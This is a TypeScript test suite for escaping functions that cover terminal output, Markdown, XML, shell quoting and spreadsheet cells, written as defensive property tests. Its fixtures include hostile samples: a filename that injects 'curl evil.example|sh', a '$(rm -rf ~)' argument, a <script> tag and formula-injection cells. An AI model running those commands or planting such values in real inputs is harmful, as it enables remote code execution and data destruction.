/**
 * src/render/escape.ts: one escaping function per target the tool writes
 * input into (issue 9 §4), each with examples at its edges and a property.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  escapeMarkdown,
  escapeTerminal,
  escapeTerminalLines,
  escapeXml,
  markdownFence,
  neutraliseSpreadsheetCell,
  shellQuote,
  startsLikeFormula,
} from "../../src/render/escape.js";

/** Any string, with the characters hostile input uses most often mixed in. */
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      "\x1b",
      "\x9b",
      "\n",
      "\r",
      "\t",
      "\u202e",
      "\ufffe",
      "\uffff",
      "\ud800",
      "<",
      "&",
      "'",
      '"',
      "`",
      "[",
      "]",
      "|",
      "=",
      "-",
    ),
    fc.string({ minLength: 1, maxLength: 1 }),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }),
  ),
  maxLength: 40,
});

describe("escapeTerminal", () => {
  it("shows ESC, CSI, CR, newline, bidi override and U+FFFE as codes", () => {
    expect(escapeTerminal("A\x1b[2J\x9b31m\r\n\u202eB\ufffe")).toBe("A\\x1b[2J\\x9b31m\\x0d\\x0a\\u202eB\\ufffe");
  });

  it("leaves ordinary text, including non-Latin letters and ≥, unchanged", () => {
    expect(escapeTerminal("NVIDIA H100 — PD ≥ 5.92, 日本")).toBe("NVIDIA H100 — PD ≥ 5.92, 日本");
  });

  it("keeps the line breaks between lines, not inside them", () => {
    expect(escapeTerminalLines("a\x1b\nb")).toBe("a\\x1b\nb");
  });

  it("property: no control character survives", () => {
    fc.assert(
      fc.property(
        hostile,
        // biome-ignore lint/suspicious/noControlCharactersInRegex: the property looks for control characters.
        (text) => !/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufffe\uffff]/.test(escapeTerminal(text)),
      ),
    );
  });
});

describe("escapeMarkdown", () => {
  it("a link, an image, HTML and emphasis become literal text", () => {
    expect(escapeMarkdown("[click](https://evil.example)")).toBe("\\[click\\](https://evil.example)");
    expect(escapeMarkdown("![x](y) <script> *b* _i_ `c`")).toBe("\\!\\[x\\](y) \\<script\\> \\*b\\* \\_i\\_ \\`c\\`");
  });

  it("a table cell break and a newline cannot split a row or a block", () => {
    expect(escapeMarkdown("a | b\n# heading")).toBe("a \\| b \\# heading");
  });

  it("a list or heading marker at the start is escaped", () => {
    expect(escapeMarkdown("- item")).toBe("\\- item");
    expect(escapeMarkdown("1. item")).toBe("1\\. item");
    expect(escapeMarkdown("---")).toBe("\\---");
    expect(escapeMarkdown("3A090.a.1")).toBe("3A090.a.1");
    expect(escapeMarkdown("3.100775")).toBe("3.100775");
    expect(escapeMarkdown("-5 TOPS")).toBe("-5 TOPS");
  });

  it("a fence is longer than any backtick run in the text", () => {
    expect(markdownFence("plain")).toBe("```");
    expect(markdownFence("a ```` b")).toBe("`````");
  });

  it("property: no unescaped markup character and no line break remain", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const out = escapeMarkdown(text);
        return !/[\n\r]/.test(out) && !/(?<!\\)(?:\\\\)*[[\]<>|`*_]/.test(out);
      }),
    );
  });
});

describe("escapeXml", () => {
  it("escapes the five markup characters", () => {
    expect(escapeXml(`<a href="x">'&'</a>`)).toBe("&lt;a href=&quot;x&quot;&gt;&apos;&amp;&apos;&lt;/a&gt;");
  });

  it("replaces what XML 1.0 forbids: controls, U+FFFE, U+FFFF, a lone surrogate", () => {
    expect(escapeXml("a\x00b\x1bc\ufffed\uffffe\ud800f")).toBe("a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf");
    expect(escapeXml("tab\there\nnew 😀")).toBe("tab\there\nnew 😀");
  });

  it("property: the result is well-formed character data (no forbidden character, every & starts an entity)", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const out = escapeXml(text);
        const forbidden = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u.test(out);
        return !forbidden && !/[<>"']/.test(out) && !/&(?!(?:amp|lt|gt|quot|apos);)/.test(out);
      }),
    );
  });
});

describe("shellQuote", () => {
  it("regression: a bound file named x; curl evil.example|sh # is one quoted argument", () => {
    expect(shellQuote("x; curl evil.example|sh #")).toBe("'x; curl evil.example|sh #'");
  });

  it("plain paths and options stay as they are; quotes, spaces and $ are quoted", () => {
    expect(shellQuote("/tmp/attestation.json")).toBe("/tmp/attestation.json");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote("$(rm -rf ~)")).toBe("'$(rm -rf ~)'");
    expect(shellQuote("--trust")).toBe("--trust");
    expect(shellQuote("")).toBe("''");
  });

  it("property: sh reads the quoted argument back exactly (a quote-aware reader)", () => {
    const unquote = (word: string): string => {
      let out = "";
      for (const part of word.match(/'[^']*'|\\.|[^'\\]+/g) ?? [])
        out += part.startsWith("'") ? part.slice(1, -1) : part.startsWith("\\") ? part.slice(1) : part;
      return out;
    };
    fc.assert(fc.property(hostile, (text) => unquote(shellQuote(text)) === text));
  });
});

describe("neutraliseSpreadsheetCell", () => {
  it.each(["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x")'])(
    "%j starts like a formula and gets a leading '",
    (cell) => {
      expect(startsLikeFormula(cell)).toBe(true);
      expect(neutraliseSpreadsheetCell(cell)).toBe(`'${cell}`);
    },
  );

  it.each(["-1.5", "+3", "1e-3", "3A090.a.1", "a=b", ""])("%j is left as it is", (cell) => {
    expect(neutraliseSpreadsheetCell(cell)).toBe(cell);
  });

  it("property: no neutralised cell starts like a formula", () => {
    fc.assert(fc.property(hostile, (cell) => !startsLikeFormula(neutraliseSpreadsheetCell(cell))));
  });
});
